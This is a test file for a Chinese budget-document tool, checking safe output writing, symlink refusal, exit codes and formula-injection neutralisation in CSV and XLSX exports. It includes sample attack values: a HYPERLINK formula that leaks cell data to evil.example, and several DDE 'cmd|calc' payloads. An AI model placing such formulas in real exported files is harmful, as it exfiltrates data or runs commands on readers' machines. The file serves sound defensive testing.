"""No silent loss on output, no formula from text, no markup from text; exit codes."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cnbudget.model.contract import dumps
from cnbudget.model.document import Department
from cnbudget.output import UnsafeOutput, atomic_output, csv_text, distinct_names, formula_like
from cnbudget.query.export import export_frame
from cnbudget.samples import budget_sample
from cnbudget.store import Store

from .helpers import cli

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def test_same_named_inputs_get_distinct_outputs(tmp_path: Path) -> None:
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "x.txt").write_text(
            f"石家庄市{folder}局2024年部门预算\n一、收入支出预算总体情况\n"
            f"石家庄市{folder}局2024年收入预算总计100.00万元，支出预算总计100.00万元。\n", encoding="utf-8")
    done = cli("extract", str(tmp_path / "a" / "x.txt"), str(tmp_path / "b" / "x.txt"),
               "-o", str(tmp_path / "out"), "--no-audit")
    assert done.returncode == 0, done.stderr
    written = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert written == ["a_x.txt.json", "b_x.txt.json"]


@given(st.lists(st.sampled_from(["a/x.pdf", "b/x.pdf", "x.pdf", "x.docx", "a/b/x.pdf",
                                 "c/b/x.pdf", "x.pdf.txt"]), min_size=1, unique=True))
def test_distinct_names_never_collide(names: list[str]) -> None:
    out = distinct_names([Path(n) for n in names], ".json")
    assert len(set(out.values())) == len(out)


def test_no_command_overwrites_its_input(tmp_path: Path) -> None:
    doc = tmp_path / "doc.json"
    doc.write_text(dumps(budget_sample(0)), encoding="utf-8")
    before = doc.read_bytes()
    render = cli("render", str(doc), "--to", "html", "-o", str(doc))
    assert render.returncode == 2 and "also an input" in render.stderr
    page = tmp_path / "x.html"
    page.write_text("<html><body><p>部门预算</p></body></html>", encoding="utf-8")
    page_before = page.read_bytes()
    check = cli("check", str(page), "--html", str(page))
    assert check.returncode == 2 and "also an input" in check.stderr
    assert doc.read_bytes() == before and page.read_bytes() == page_before


def test_outputs_are_not_written_through_links(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    link = tmp_path / "out.html"
    link.symlink_to(victim)
    done = cli("render", "--sample", "budget", "--to", "html", "-o", str(link))
    assert done.returncode == 2 and "symbolic link" in done.stderr
    assert victim.read_text(encoding="utf-8") == "keep me"
    with pytest.raises(UnsafeOutput):
        export_frame(pd.DataFrame({"a": [1]}), link.with_suffix(".csv").parent / "out.html",
                     "csv")
    forced = cli("render", "--sample", "budget", "--to", "html", "-o", str(link),
                 "--follow-symlinks")
    assert forced.returncode == 0 and link.is_symlink() and "<html" in victim.read_text("utf-8")


def test_a_failed_write_leaves_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "t.csv"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_output(target) as temporary:
        temporary.write_text("half", encoding="utf-8")
        raise RuntimeError("crash mid-write")
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


@pytest.mark.parametrize("text,neutral", [
    ("=1+1", True), ("+1+1", True), ("@SUM(A1)", True), ("-2+3+cmd|' /C calc'!A0", True),
    ("\t=1", True), ("\r=1", True), ("-", True), ("-12.5", False), ("+3", False),
    ("1,234.50", False), ("一般公共预算", False), ("-12.5%", False),
])
def test_formula_like(text: str, neutral: bool) -> None:
    assert formula_like(text) is neutral
    assert (csv_text(text) != text) is neutral


def test_exports_never_hold_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": [EVIL, "+cmd", "普通", "-"],
                          "amount": [Decimal("-12.50"), Decimal("3"), Decimal("0.10"), None]})
    export_frame(frame, tmp_path / "x.csv", unit="元")
    rows = list(csv.reader((tmp_path / "x.csv").open(encoding="utf-8-sig")))
    assert [r[0] for r in rows[1:]] == ["'" + EVIL, "'+cmd", "普通", "'-"]
    assert rows[1][1] == "-12.50"  # a negative amount is data, unchanged
    export_frame(frame, tmp_path / "x.xlsx", unit="元")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert ws["A2"].value == EVIL and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["B2"].value == -12.5 and ws["B2"].data_type == "n"
    for row in ws.iter_rows():
        assert all(c.data_type != "f" for c in row)


def test_render_xlsx_holds_no_formula(tmp_path: Path) -> None:
    doc = budget_sample(0)
    doc.meta.title = EVIL
    doc.tables[0].title = "=cmd|'/C calc'!A0"
    doc.narrative[0] = replace(doc.narrative[0], text="@SUM(1+1)*cmd|' /C calc'!A0")
    src = tmp_path / "doc.json"
    src.write_text(dumps(doc), encoding="utf-8")
    assert cli("render", str(src), "--to", "xlsx", "-o", str(tmp_path / "d.xlsx")).returncode == 0
    wb = openpyxl.load_workbook(tmp_path / "d.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    assert EVIL in texts and "=cmd|'/C calc'!A0" in texts  # shown exactly as printed
    numbers = [c.value for ws in wb.worksheets[1:] for row in ws.iter_rows() for c in row
               if c.data_type == "n" and c.value is not None]
    assert numbers, "amounts stay numbers"


def test_document_text_is_never_console_markup(tmp_path: Path) -> None:
    doc = budget_sample(0)
    doc.meta.department = Department("[/b]测试局[bold red]:x:", doc.meta.department.code)
    db = tmp_path / "m.db"
    with Store(db) as store:
        store.store(doc)
    ls = cli("ls", "--db", str(db))
    assert ls.returncode == 0, ls.stderr
    assert "[/b]测试局[bold red]:x:" in ls.stdout
    show = cli("show", "1", "--db", str(db))
    assert show.returncode == 0 and "[/b]测试局" in show.stdout, show.stderr
    sql = cli("sql", "SELECT ':x: [/b]' AS t", "--db", str(db))
    assert sql.returncode == 0 and ":x: [/b]" in sql.stdout and "❌" not in sql.stdout


def test_exit_codes(tmp_path: Path) -> None:
    bad = tmp_path / "bad.pdf"
    bad.write_bytes(b"%PDF-1.4 broken")
    assert cli("extract", str(bad)).returncode == 2
    assert cli("extract", str(tmp_path / "missing.pdf")).returncode == 2
    assert cli("extract", str(bad), "--limit", "nonsense=1").returncode == 2
    # an internal failure is 3, never 1: a contract the writer cannot take
    broken = tmp_path / "doc.json"
    data = json.loads(dumps(budget_sample(0)))
    data["tables"] = "not a list"
    broken.write_text(json.dumps(data), encoding="utf-8")
    done = cli("render", str(broken), "--to", "xlsx", "-o", str(tmp_path / "o.xlsx"))
    assert done.returncode in (2, 3) and "Traceback" not in done.stderr
